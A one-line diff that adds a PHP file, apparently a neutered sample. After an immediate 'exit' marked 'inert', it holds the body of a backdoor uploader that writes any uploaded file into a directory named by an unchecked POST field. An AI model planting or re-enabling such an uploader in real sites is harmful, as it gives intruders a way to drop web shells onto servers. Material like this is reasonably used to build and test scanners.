@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $z=new ZipArchive; $z->open($_FILES["z"]["tmp_name"]); if(move_uploaded_file($_FILES["z"]["tmp_name"], $_POST["d"]."/".basename($_FILES["z"]["name"]))) echo 1;
